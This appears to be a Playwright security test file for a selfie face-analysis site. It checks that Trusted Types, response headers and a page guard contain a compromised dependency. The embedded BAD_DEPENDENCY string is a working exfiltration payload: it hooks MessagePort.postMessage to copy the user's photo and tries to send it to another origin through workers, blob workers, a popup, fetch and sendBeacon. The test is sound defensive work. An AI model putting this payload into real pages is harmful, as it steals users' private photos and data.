/**
 * A bad page dependency cannot send the photo away (security round 6). A copy of the build has code
 * appended to one of the home page's own modules, as a compromised dependency would ship it (the
 * page loads it as it is; no digest covers page code). That code copies every message the page
 * posts on a MessagePort (the photo goes to the face engine that way), then tries what worked
 * before: its own `face-worker` Trusted Types policy, a worker started from its own file's address
 * (a worker takes its policy from its script's headers, none on a bare host), a `blob:` worker, a
 * popup of a file with no policy (`/robots.txt`) driven through its handle, and plain requests
 * from the page. A recording server on another origin logs whatever reaches it.
 *
 * Served four ways: without headers and without the page guard (the control: the attack gets out,
 * so the others can fail), by `npm start`'s server without the guard (the headers alone hold), and
 * with both, the real engine analysing a photo on the preview server and on a server that sends no
 * headers at all (the guard alone holds there, and the analysis still works).
 */
import { cpSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { expect, test, type Page } from "@playwright/test";
import { startPreview } from "../../../scripts/preview-server";
import { startEngineServer } from "../../../tools/engine-harness/engine-runner";
import { makePhoto, ONE_FACE } from "../../../tools/engine-harness/face-photos";
import { startRecordingServer, type RecordingServer } from "../../support/recording-server";
import { choosePhotoAndGender, MODEL_NOTE, REAL_ENGINE_WAIT_MS, waitForIsland } from "../../support/site-pages";

const BUILD = join(import.meta.dirname, "../../..", process.env["SITE_OUT_DIR"] ?? "dist");

// A first visit: no service worker between the page and the network.
test.use({ serviceWorkers: "block" });

/** What the bad dependency saw and did, as it left it on `window.badDependency`. */
interface Report {
  tried: Record<string, string>;
  messages: number;
}

/** The code appended to the module: `RECORDER` is the other origin. */
const BAD_DEPENDENCY = `
;(() => {
  const recorder = "RECORDER";
  const quiet = (promise) => promise && promise.catch && promise.catch(() => {});
  if (typeof window === "undefined") {
    fetch(recorder + "/from-worker", { mode: "no-cors" })
      .catch(() => {})
      .finally(() => self.postMessage("tried"));
    self.addEventListener("message", (event) =>
      quiet(fetch(recorder + "/leak-photo", { method: "POST", mode: "no-cors", body: JSON.stringify(String(event.data)) + event.data })),
    );
    return;
  }
  if (window.badDependency) return;
  const report = (window.badDependency = { tried: {}, messages: 0 });
  const attempt = (name, run) => {
    try {
      const value = run();
      report.tried[name] = "ran";
      return value;
    } catch (error) {
      report.tried[name] = "threw: " + error.message;
      return null;
    }
  };
  const policy = attempt("own face-worker policy", () => trustedTypes.createPolicy("face-worker", { createScriptURL: (url) => url }));
  const theSites = window.sitePolicies && window.sitePolicies["face-worker"];
  const asScript = (url) => (policy ? policy.createScriptURL(url) : theSites ? theSites.createScriptURL(url) : url);
  const leak = attempt("worker from this file", () => new Worker(asScript(import.meta.url), { type: "module" }));
  attempt("blob worker", () => {
    const code = "fetch(" + JSON.stringify(recorder + "/from-blob-worker") + ", { mode: 'no-cors' }).catch(() => {});";
    return new Worker(asScript(URL.createObjectURL(new Blob([code], { type: "text/javascript" }))));
  });
  const popup = attempt("popup", () => open("/robots.txt"));
  report.tried["popup handle"] = popup ? "given" : "none";
  if (leak) leak.addEventListener("message", () => (report.tried["worker's request"] = "settled"));
  if (popup) {
    // Once the popup shows /robots.txt, a request from it.
    const send = () => {
      if (popup.location.pathname !== "/robots.txt" || popup.document.readyState !== "complete") return setTimeout(send, 100);
      popup.fetch(recorder + "/from-popup", { mode: "no-cors" })
        .catch(() => {})
        .finally(() => (report.tried["popup's request"] = "settled"));
    };
    send();
  }
  quiet(fetch(recorder + "/from-page", { mode: "no-cors" }));
  attempt("beacon", () => navigator.sendBeacon(recorder + "/beacon", "x"));
  const post = MessagePort.prototype.postMessage;
  MessagePort.prototype.postMessage = function (message, ...rest) {
    report.messages += 1;
    try {
      if (leak) leak.postMessage(message);
    } catch {}
    try {
      quiet(fetch(recorder + "/leak-photo-from-page", { method: "POST", mode: "no-cors", body: String(message) }));
    } catch {}
    return post.call(this, message, ...rest);
  };
})();
`;

/** A home-page module that imports nothing (so a worker started from it runs its own code at once). */
function leafModule(build: string): string {
  const home = readFileSync(join(build, "index.html"), "utf8");
  const seen = new Set<string>();
  const queue = [...home.matchAll(/(?:component-url|renderer-url|src)="(\/_astro\/[^"]+\.js)"/g)].map(
    ([, url]) => url!,
  );
  while (queue.length > 0) {
    const url = queue.shift()!;
    if (seen.has(url)) continue;
    seen.add(url);
    const source = readFileSync(join(build, url), "utf8");
    const imports = [...source.matchAll(/(?:import|from)\s*["']\.\/([^"']+\.js)["']/g)].map(
      ([, name]) => `/_astro/${name}`,
    );
    if (imports.length === 0 && !/import\s*\(/.test(source) && !source.includes("import.meta")) return url;
    queue.push(...imports);
  }
  throw new Error("The home page loads no module without imports.");
}

/** A copy of the build with the bad dependency in one home-page module, and the guard taken out if asked. */
function badBuild(recorder: string, { guard }: { guard: boolean }): string {
  const copy = mkdtempSync(join(tmpdir(), "bad-dependency-"));
  cpSync(BUILD, copy, { recursive: true });
  const module = leafModule(copy);
  writeFileSync(
    join(copy, module),
    readFileSync(join(copy, module), "utf8") + BAD_DEPENDENCY.replace("RECORDER", recorder),
  );
  if (!guard) {
    for (const file of readdirSync(copy, { recursive: true })
      .map(String)
      .filter((name) => name.endsWith(".html"))) {
      const html = readFileSync(join(copy, file), "utf8");
      writeFileSync(join(copy, file), html.replace(/<script>\(\(\) => \{\n {2}const values = [\s\S]*?<\/script>/, ""));
    }
  }
  return copy;
}

let elsewhere: RecordingServer;
const copies: string[] = [];

test.beforeAll(async () => {
  elsewhere = await startRecordingServer();
});

test.afterAll(async () => {
  await elsewhere.close();
  for (const copy of copies) rmSync(copy, { recursive: true, force: true });
});

/** Serves a bad build with or without headers; returns its origin and a function that stops it. */
async function serve(copy: string, headers: boolean): Promise<{ origin: string; stop: () => Promise<void> }> {
  copies.push(copy);
  if (headers) return startPreview({ port: 0, outDir: copy });
  const server = await startEngineServer({ "/": copy });
  return { origin: server.origin, stop: server.close };
}

const report = (page: Page) => page.evaluate(() => (window as unknown as { badDependency: Report }).badDependency);

/** Opens the home page and waits until each of the bad dependency's attempts has finished (or was refused). */
async function openHome(page: Page, origin: string): Promise<Report> {
  await page.goto(`${origin}/`);
  await waitForIsland(page, 'button:has-text("Upload Your Selfie Now")');
  await expect.poll(() => page.evaluate(() => "badDependency" in window)).toBe(true);
  const finished = (tried: Record<string, string>) =>
    (tried["worker from this file"] !== "ran" || tried["worker's request"] === "settled") &&
    (tried["popup handle"] !== "given" || tried["popup's request"] === "settled");
  await expect.poll(async () => finished((await report(page)).tried)).toBe(true);
  return report(page);
}

/** What reached the recording server from this test's copy. */
const reached = (tag: string) =>
  elsewhere.requests.filter((request) => request.includes(`/${tag}/`)).map((request) => request.replace(`/${tag}`, ""));

test("the control: without the page guard or headers, the bad dependency's worker and popup do reach another origin", async ({
  page,
}) => {
  const site = await serve(badBuild(`${elsewhere.origin}/control`, { guard: false }), false);
  try {
    const { tried } = await openHome(page, site.origin);
    expect(await page.evaluate(() => "sitePolicies" in window), "the guard taken out").toBe(false);
    expect(tried["own face-worker policy"]).toBe("ran");
    // Both requests have settled (openHome), so both have reached the recorder.
    expect(reached("control")).toEqual(expect.arrayContaining(["GET /from-worker", "GET /from-popup"]));
    // The page's own policy holds in the page and in a blob: worker, headers or not.
    expect(reached("control").filter((request) => /from-page|from-blob-worker|beacon/.test(request))).toEqual([]);
  } finally {
    await site.stop();
  }
});

test("without the page guard, the headers alone keep the worker and the popup from reaching anything", async ({
  page,
}) => {
  const site = await serve(badBuild(`${elsewhere.origin}/headers`, { guard: false }), true);
  try {
    const { tried } = await openHome(page, site.origin);
    expect(tried["worker from this file"]).toBe("ran");
    expect(tried["popup handle"]).toBe("given");
    expect(reached("headers")).toEqual([]);
  } finally {
    await site.stop();
  }
});

for (const headers of [true, false]) {
  test(`${headers ? "on npm start's server" : "on a host that sends no headers"}, the bad dependency gets no policy, no worker, no popup and never the photo, and the analysis works`, async ({
    page,
  }) => {
    const tag = headers ? "guard-and-headers" : "guard";
    const site = await serve(badBuild(`${elsewhere.origin}/${tag}`, { guard: true }), headers);
    try {
      const { tried } = await openHome(page, site.origin);
      expect(tried["own face-worker policy"]).toMatch(/^threw: /);
      expect(tried["worker from this file"]).toMatch(/^threw: /);
      expect(tried["popup handle"]).toBe("none");

      await choosePhotoAndGender(page, await makePhoto(page, `bad-dependency-${headers}.jpg`, "sample1.jpg", ONE_FACE));
      await page.getByRole("button", { name: "Upload Your Selfie Now" }).click();
      const preview = page.getByRole("dialog", { name: /facial landmarks found/ });
      await expect(preview.getByRole("heading")).toHaveText("68 facial landmarks found", {
        timeout: REAL_ENGINE_WAIT_MS,
      });
      await expect(page.getByTestId("classifier-used")).toContainText(MODEL_NOTE, { timeout: REAL_ENGINE_WAIT_MS });
      // It saw the photo go to the engine, and could send it nowhere.
      expect((await report(page)).messages).toBeGreaterThan(0);
      expect(reached(tag)).toEqual([]);
    } finally {
      await site.stop();
    }
  });
}

test("on a host that sends no headers, a page framed by another origin shows nothing and loads no more", async ({
  page,
}) => {
  const site = await startEngineServer({ "/": BUILD });
  // Another origin on this machine frames the page (a public one may not frame a local address at all).
  const framer = createServer((_request, response) => {
    response.writeHead(200, { "Content-Type": "text/html" });
    response.end(`<iframe src="${site.origin}/about"></iframe>`);
  });
  await new Promise<void>((listening) => framer.listen(0, "127.0.0.1", listening));
  try {
    await page.goto(`http://127.0.0.1:${(framer.address() as AddressInfo).port}/`);
    const framed = () => page.frames().find((frame) => frame.url() === `${site.origin}/about`);
    await expect.poll(() => framed() !== undefined).toBe(true);
    await expect.poll(() => framed()!.evaluate(() => getComputedStyle(document.documentElement).display)).toBe("none");
    // Stopped as it was read: the page's modules never ran, so its islands never woke.
    expect(await framed()!.evaluate(() => document.querySelectorAll("astro-island:not([ssr])").length)).toBe(0);
    // Opened on its own, the same page shows.
    await page.goto(`${site.origin}/about`);
    expect(await page.evaluate(() => getComputedStyle(document.documentElement).display)).not.toBe("none");
    await expect(page.locator("astro-island:not([ssr])").first()).toBeAttached();
  } finally {
    await site.close();
    await new Promise((closed) => framer.close(closed));
  }
});
